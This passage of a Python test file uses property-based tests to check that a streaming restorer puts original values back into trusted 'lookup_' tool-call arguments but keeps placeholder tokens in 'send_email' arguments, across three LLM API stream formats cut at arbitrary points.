        size = max(1, -(-len(arguments) // pieces))
        for at in range(0, len(arguments), size):
            more = {"index": position, "function": {"arguments": arguments[at : at + size]}}
            frames.append({"choices": [{"index": 0, "delta": {"tool_calls": [more]}}]})
    frames.append({"choices": [{"index": 0, "delta": {}, "finish_reason": "tool_calls"}]})
    return b"".join(b"data: " + json.dumps(f).encode() + b"\n\n" for f in frames) + (
        b"data: [DONE]\n\n"
    )


def _arguments_of(stream: bytes) -> dict[str, str]:
    names: dict[int, str] = {}
    parts: dict[int, str] = {}
    for line in stream.decode().split("\n"):
        if not line.startswith("data: {"):
            continue
        for choice in json.loads(line[6:])["choices"]:
            for call in choice.get("delta", {}).get("tool_calls", []):
                function = call.get("function", {})
                if function.get("name"):
                    names[call["index"]] = function["name"]
                parts[call["index"]] = parts.get(call["index"], "") + function.get("arguments", "")
    return {names[i]: parts[i] for i in names}


_VALUES = st.lists(
    st.sampled_from([TOKEN, "a", " ", '"', "\\", "é", "[", "]", "EMAIL", "https://x.example/?q="]),
    max_size=12,
).map("".join)


@settings(max_examples=200)
@given(
    first=_VALUES,
    second=_VALUES,
    pieces=st.integers(1, 9),
    cuts=st.lists(st.integers(0, 2000), max_size=10),
)
def test_a_stream_cut_anywhere_keeps_exactly_the_untrusted_tools_tokens(
    first: str, second: str, pieces: int, cuts: list[int]
) -> None:
    calls = [
        ("lookup_orders", json.dumps({"q": first})),
        ("send_email", json.dumps({"body": second})),
    ]
    raw = _chat_frames(calls, pieces)
    kept: list[str] = []

    def keep(token: str) -> None:
        kept.append(token)

    restorer = StreamRestorer(
        TokenRestorer({TOKEN: ORIGINAL}.get),
        restores_tool=lambda name: name is not None and name.startswith("lookup_"),
        kept_lookup=keep,
    )
    bounds = sorted({min(c, len(raw)) for c in cuts} | {0, len(raw)})
    out = b"".join(restorer.feed(raw[a:b]) for a, b in itertools.pairwise(bounds))
    out += restorer.close()
    arguments = _arguments_of(out)
    assert json.loads(arguments["lookup_orders"]) == {"q": first.replace(TOKEN, ORIGINAL)}
    assert json.loads(arguments["send_email"]) == {"body": second}
    assert len(kept) == second.count(TOKEN)


def _tool_arguments_in(stream: bytes) -> dict[str, list[str]]:
    """Every place a stream of any of the three APIs states a tool call's arguments, by
    tool name: joined deltas, and each whole repetition (``*.done``, completed items)."""
    names: dict[Any, str] = {}
    parts: dict[Any, str] = {}
    whole: dict[str, list[str]] = {}
    for line in stream.decode().split("\n"):
        if not line.startswith("data: {"):
            continue
        event = json.loads(line[6:])
        kind = event.get("type", "")
        for choice in event.get("choices", []):
            for call in choice.get("delta", {}).get("tool_calls", []):
                if call.get("function", {}).get("name"):
                    names[call["index"]] = call["function"]["name"]
                more = call.get("function", {}).get("arguments", "")
                parts[call["index"]] = parts.get(call["index"], "") + more
        if kind == "content_block_start" and event["content_block"]["type"] == "tool_use":
            names[event["index"]] = event["content_block"]["name"]
        elif kind == "content_block_delta" and event["delta"]["type"] == "input_json_delta":
            more = event["delta"]["partial_json"]
            parts[event["index"]] = parts.get(event["index"], "") + more
        elif kind == "response.output_item.added" and event["item"]["type"] == "function_call":
            names[event["output_index"]] = event["item"]["name"]
        elif kind == "response.function_call_arguments.delta":
            parts[event["output_index"]] = parts.get(event["output_index"], "") + event["delta"]
        elif kind == "response.function_call_arguments.done":
            whole.setdefault(names[event["output_index"]], []).append(event["arguments"])
        elif kind == "response.output_item.done" and event["item"]["type"] == "function_call":
            whole.setdefault(event["item"]["name"], []).append(event["item"]["arguments"])
        elif kind == "response.completed":
            for item in event["response"]["output"]:
                if item["type"] == "function_call":
                    whole.setdefault(item["name"], []).append(item["arguments"])
    for index, name in names.items():
        whole.setdefault(name, []).insert(0, parts.get(index, ""))
    return whole


@settings(max_examples=150)
@given(
    api=st.sampled_from(["chat", "anthropic", "responses"]),
    first=_VALUES,
    second=_VALUES,
    size=st.integers(1, 9),
    cuts=st.lists(st.integers(0, 6000), max_size=10),
)
def test_every_api_stream_cut_anywhere_keeps_exactly_the_untrusted_tools_tokens(
    api: str, first: str, second: str, size: int, cuts: list[int]
) -> None:
    """The fake model's own streams of Chat Completions, Anthropic Messages and the
    Responses API (with its ``*.done`` events and completed response), two tool calls
    each: wherever the bytes are cut, every place that states the trusted tool's
    arguments has the original, and every place that states the other's keeps the token."""
    answer = Answer(
        text="ok",
        tool_calls=(
            ToolCall("lookup_orders", json.dumps({"q": first}), id="call_1"),
            ToolCall("send_email", json.dumps({"body": second}), id="call_2"),
        ),
    )
    build = {"chat": _openai_stream, "anthropic": _anthropic_stream, "responses": _responses_stream}
    raw = b"".join(build[api](answer, "m", size))
    kept: list[str] = []
    restorer = StreamRestorer(
        TokenRestorer({TOKEN: ORIGINAL}.get),
        restores_tool=lambda name: name is not None and name.startswith("lookup_"),
        kept_lookup=kept.append,
    )
    bounds = sorted({min(c, len(raw)) for c in cuts} | {0, len(raw)})
    out = b"".join(restorer.feed(raw[a:b]) for a, b in itertools.pairwise(bounds))
    found = _tool_arguments_in(out + restorer.close())
    assert set(found) == {"lookup_orders", "send_email"}
    for stated in found["lookup_orders"]:
        assert json.loads(stated) == {"q": first.replace(TOKEN, ORIGINAL)}
    for stated in found["send_email"]:
        assert json.loads(stated) == {"body": second}
    assert len(kept) == second.count(TOKEN) * len(found["send_email"])
